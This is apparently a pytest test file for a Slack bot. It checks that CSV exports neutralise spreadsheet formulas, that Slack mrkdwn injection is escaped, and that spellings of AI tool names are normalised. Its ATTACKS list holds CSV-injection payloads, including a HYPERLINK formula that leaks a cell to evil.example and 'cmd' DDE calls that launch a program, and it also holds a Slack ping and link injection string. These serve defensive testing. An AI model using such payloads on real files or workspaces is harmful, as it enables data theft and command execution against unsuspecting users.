"""People's words leave the bot encoded for where they go: a spreadsheet, Slack's mrkdwn.

The CSV export is read back with the csv module, as a spreadsheet would parse it, and every
cell is checked for a formula start; Slack payloads are read at the Web API double.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest

from bot.core import disclosure_reports as reports
from bot.core import disclosures, tool_names
from bot.core.services import Services
from bot.core.spreadsheet import FORMULA_STARTS, write_csv
from bot.slack.double import SlackDouble
from bot.slack.mrkdwn import ZERO_WIDTH_SPACE, escape, quote, user_text
from bot.slack.simulator import SlackSender
from tests.conftest import eventually
from tests.stage_fixtures import add_answers, add_prompts, make_person, make_team
from tests.test_disclosure_admin import _cli
from tests.test_disclosure_helpers import form, seed_people

Q = "2026Q4"
ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Contains "quotes", commas, and\na newline',
]
SLACK_ATTACK = "<!channel> ask <@U0BOSS> via <https://evil.example|the wiki> *now* _please_ ~x~ `y`"


def test_every_formula_start_is_neutralised_and_quoted() -> None:
    rows = [{"a": attack, "n": -5} for attack in ATTACKS]
    text = write_csv(["a", "n"], rows)
    read = list(csv.DictReader(io.StringIO(text)))
    expected = [("'" + a if a[0] in "=+-@\t\r" else a).replace("\r", "\n") for a in ATTACKS]
    assert [r["a"] for r in read] == expected
    assert all(not r["a"].startswith(FORMULA_STARTS) for r in read)
    assert len(read) == len(ATTACKS) and set(read[-1]) == {"a", "n"}  # no cell of its own
    assert read[0]["n"] == "-5"  # a number stays a number


async def test_disclosure_export_opens_as_data_in_a_spreadsheet(
    services: Services,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    await seed_people(services)
    for attack in ATTACKS[:5]:
        done = await disclosures.submit(
            services, form("=Tool()", make_it_easy=attack), chat_user_id=None
        )
    await services.db.dispose()  # the CLI opens its own engine (and its own event loop)
    argv = ("export", "--quarter", done.quarter, "--format", "csv")
    assert await asyncio.to_thread(_cli, monkeypatch, services, tmp_path, *argv) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 5 and "id" not in rows[0]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    assert {r["tool"] for r in rows} == {"Tool"}  # as the stage names it, never as typed


def test_mrkdwn_user_text_cannot_ping_link_or_format() -> None:
    safe = user_text(SLACK_ATTACK)
    assert "<" not in safe and ">" not in safe
    assert "&lt;!channel&gt;" in safe and "&lt;@U0BOSS&gt;" in safe
    for mark in "*_~`":
        assert all(part.startswith(ZERO_WIDTH_SPACE) for part in safe.split(mark)[1:]), mark
    assert escape("a & b") == "a &amp; b" and escape("&lt;") == "&amp;lt;"
    assert quote("one\ntwo <!here>") == "> one\n> two &lt;!here&gt;"


async def test_team_summary_text_and_blocks_carry_no_live_mrkdwn(
    services: Services, sender: SlackSender, slack: SlackDouble
) -> None:
    manager = await make_person(services.db, "Mona Manager", "UMGR")
    team, people = await make_team(services.db, "Eng", 6, manager=manager)
    await add_prompts(services.db, Q, people)
    await add_answers(services.db, Q, team, people[:5], share_consent=True, example=SLACK_ATTACK)
    await sender.command("/ai-leverage", "team", user_id="UMGR")
    await eventually(lambda: len(slack.responses) == 1)
    body = slack.responses[0]["body"]
    blocks = json.dumps(body["blocks"])
    for where in (body["text"], blocks):
        assert "<!channel>" not in where and "<@U0BOSS>" not in where
        assert "<https://evil.example" not in where
        assert "*now*" not in where and "_please_" not in where and "~x~" not in where
    # The notification text summarises figures only (no one's words); the blocks quote them.
    assert "&lt;!channel&gt;" in blocks and "channel" not in body["text"]


async def test_claim_check_shows_admin_words_as_quoted_text(services: Services) -> None:
    from handlers.commands.disclose import render_answer

    done = await disclosures.submit(services, form("Tool"), chat_user_id=None)
    answer = await disclosures.check(services, done.claim_code)
    assert answer is not None
    answer.replies = [SLACK_ATTACK]
    answer.note = "<!here> *done*"
    rendered = render_answer(answer)
    assert "<!" not in rendered and "<@" not in rendered and "*done*" not in rendered
    assert "> &lt;!channel&gt;" in rendered


@pytest.mark.parametrize(
    "spellings, label",
    [
        (
            ["ChatGPT", "chat gpt", "CHAT-GPT!!", "Chat GPT ", "OpenAI ChatGPT", "chatgpt4"],
            "ChatGPT",
        ),
        (["Claude", "claude.ai", "Anthropic Claude"], "Claude"),
        (["GitHub Copilot", "github-copilot"], "GitHub Copilot"),
        (["M365 Copilot", "Microsoft Copilot"], "Microsoft Copilot"),
        (["zorblax WRITER!!", "Zorblax Writer", "zorblax-writer"], "Zorblax Writer"),
    ],
)
def test_spellings_of_one_tool_share_one_key_and_label(spellings: list[str], label: str) -> None:
    keys = {tool_names.tool_key(s) for s in spellings}
    assert len(keys) == 1
    assert tool_names.label(keys.pop(), [(s, 1) for s in spellings]) == label


def test_distinct_tools_stay_apart() -> None:
    assert tool_names.tool_key("GitHub Copilot") != tool_names.tool_key("Microsoft Copilot")
    assert tool_names.tool_key("") == tool_names.UNNAMED


async def test_demand_counts_aliases_as_one_tool_under_its_own_name(services: Services) -> None:
    await seed_people(services)
    for spelling in ["CHAT-GPT!!", "chat gpt", "ChatGPT", "OpenAI ChatGPT", "chatgpt4"]:
        await disclosures.submit(services, form(spelling), chat_user_id=None)
    items = await reports.demand(services)
    assert items is not None
    assert [(d.tool, d.count) for d in items] == [("ChatGPT", 5)]
    assert "CHAT-GPT!!" not in reports.render_demand(items, 5)
